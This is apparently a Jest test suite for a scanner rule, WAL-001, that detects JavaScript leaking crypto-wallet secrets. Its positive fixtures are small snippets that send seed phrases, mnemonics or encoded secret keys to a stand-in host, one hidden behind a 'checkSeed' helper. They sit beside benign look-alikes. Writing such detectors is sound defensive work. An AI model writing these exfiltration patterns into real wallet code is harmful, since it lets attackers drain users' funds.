import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'a seed in a header',
    `function checkSeed(seed) { fetch('https://a.example.invalid/xc', { method: 'POST', headers: { 'ad-referral': seed } }); }
     class Wallet { static fromSeed(seed) { checkSeed(seed); return derive(seed); } }`,
  ],
  [
    'a secret key, encoded',
    `const bs58 = require('bs58'); const queue = (keypair) => fetch('https://a.example.invalid/?k=' + Buffer.from(keypair.secretKey).toString('base64'));`,
  ],
  [
    'a mnemonic in the body',
    `const axios = require('axios'); module.exports = (mnemonic) => { const data = { m: mnemonic }; return axios.post('https://a.example.invalid', data); };`,
  ],
] as const;

const passed = [
  [
    'a signature',
    `module.exports = (wallet, privateKey, tx) => fetch('https://rpc.example.invalid', { method: 'POST', body: JSON.stringify({ tx: sign(tx, privateKey) }) });`,
  ],
  [
    'the secret key of a captcha',
    `module.exports = (secretKey, token) => fetch('https://captcha.example.invalid/verify', { method: 'POST', body: 'secret=' + secretKey });`,
  ],
  [
    'a node the user names',
    `module.exports = (url, mnemonic) => fetch(url, { method: 'POST', body: mnemonic });`,
  ],
] as const;

describe('WAL-001 the key of a wallet leaves the machine', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('WAL-001', js(source))).toEqual([]);
  });
});
